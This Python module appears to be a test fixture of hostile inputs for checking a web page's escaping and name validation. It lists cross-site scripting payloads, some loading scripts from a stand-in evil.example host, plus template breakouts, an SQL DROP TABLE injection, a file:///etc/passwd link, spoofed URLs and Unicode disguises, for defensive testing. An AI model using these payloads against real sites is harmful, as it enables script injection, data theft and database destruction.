"""What somebody writes who wants a page to do more than show it; each means harm to a page that trusts it.

Knows strings. Refuses to know where they are put, and what a server takes.
"""

from __future__ import annotations

from typing import Final

MARKUP: Final = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\t=\talert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,<svg/onload=alert(1)>#x>",
    "<math><mi xlink:href=javascript:alert(1)>click</mi></math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>go",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href=javascript:alert(1)>click</a>",
    "<b onmouseover=alert(1)>hover</b>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
)
BREAKERS: Final = (
    '" onfocus=alert(1) autofocus x="',
    "' onmouseover='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "`-alert(1)-`",
    "'-alert(1)-'",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "{who} {count} {reason}",
    "<%= alert(1) %>",
    "#{alert(1)}",
    "$& $1 $' $`",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//",
    "__proto__",
    "constructor",
    "'; DROP TABLE rooms; --",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)
LINKS: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.domain)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/<img src=x onerror=alert(1)>",
    "https://place.example@evil.example/",
    "https://evil.example\\@place.example/",
    "http://аpple.example/",  # its first letter is Cyrillic
    "https://xn--pple-43d.example/",
    "//evil.example/x",
    "https://place.example%2f@evil.example",
    "mailto:a@evil.example?body=x",
)
# What only looks like something else. Names and titles may hold no control characters.
DISGUISES: Final = (
    "abc\u202egnp.exe",
    "\u2067reversed\u2069 isolate that ends too early\u2069",
    "zero\u200bwidth\u200djoined\ufeff",
    "שלום <img src=x onerror=alert(1)>",
    "مرحبا (everybody)",
    "Ｍａｘ <ｓｃｒｉｐｔ>",
    "Zalgo " + "e" + "\u0301\u0316\u0317\u0318" * 12,
    "A" * 3_000,
    "word " * 700,
    "line\n" * 200,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f1eb\U0001f1f7",
)
ALL: Final = (*MARKUP, *BREAKERS, *LINKS, *DISGUISES)

NAME_CHARS: Final = 64
# Those that may be a name or a title, by length and characters.
NAMES: Final = tuple(text for text in (*MARKUP, *BREAKERS) if len(text) <= NAME_CHARS and "\t" not in text)
# Those that may not: they would write into what stands around them.
REFUSED_NAMES: Final = ("abc\u202egnp.exe", "\u2067Max", "Max\u0000", "two\nlines", "\u200b", " ", "A" * 65)
